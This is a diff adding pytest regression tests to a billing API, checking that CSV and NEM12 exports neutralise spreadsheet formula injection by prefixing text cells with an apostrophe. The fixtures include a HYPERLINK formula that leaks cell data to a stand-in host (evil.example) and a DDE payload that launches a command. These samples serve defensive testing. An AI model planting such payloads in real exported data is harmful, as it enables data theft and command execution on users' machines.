@@ -401,3 +401,39 @@ def test_the_hour_after_an_estimated_gap_is_not_flagged_actual_in_nem12(migrated
     assert [ts.hour for (ts,) in estimated] == [2, 3]
     runs = [line.split(",")[1:4] for line in text.splitlines() if line.startswith("400,")]
     assert runs == [["1", "1", "A"], ["2", "4", "S17"], ["5", "24", "A"]]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"see note")', "+1+1", "-2+3 read twice", "@SUM(A1:A9)"]
+
+
+def test_free_text_starting_like_a_formula_is_inert_in_the_reads_csv_and_numbers_stay_numbers(
+    api, migrated_database_url
+):
+    """A reason '=HYPERLINK(...)' went into the CSV as it was: a formula, a live link, in billing's
+    spreadsheet (OWASP CSV injection). Text cells get a leading "'"; volumes and times are as they were."""
+    client, keys = api
+    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
+        for hour, reason in enumerate(FORMULAS):
+            conn.execute(
+                "UPDATE readings SET quality = 'edited', quality_by = %s, quality_reason = %s "
+                "WHERE meter_id = 'B1' AND ts = %s",
+                ("=cmd|' /C calc'!A0", reason, FEB + timedelta(hours=hour)),
+            )
+    query = "/billing/reads?account=A1&from=2026-02-01T00:00Z&to=2026-02-01T04:00Z&format=csv"
+    rows = list(csv.DictReader(io.StringIO(client.get(query, headers=auth(keys["billing"])).text)))
+    assert [r["quality_reason"] for r in rows] == ["'" + reason for reason in FORMULAS]
+    assert {r["quality_by"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    assert [r["volume_m3"] for r in rows] == ["100.240", "100.250", "100.260", "100.270"]
+    assert rows[0]["ts"] == "2026-02-01T00:00:00Z" and rows[0]["meter_id"] == "B1"
+
+
+def test_a_reason_starting_like_a_formula_is_inert_in_nem12(api, migrated_database_url):
+    client, keys = api
+    with psycopg.connect(migrated_database_url, autocommit=True) as conn:
+        conn.execute(
+            "UPDATE readings SET quality_reason = %s WHERE meter_id = 'B3' AND ts = %s",
+            ('=HYPERLINK("http://evil.example/?"&A1;"see note")', MAR),
+        )
+    response = client.get("/billing/nem12?period=2026-02-27/2026-03-01&account=A2", headers=auth(keys["billing"]))
+    records = [line.split(",") for line in response.text.strip().split("\r\n")]
+    assert records[5][1:] == ["24", "24", "S17", "0", '\'=HYPERLINK("http://evil.example/?"&A1;"see note")']
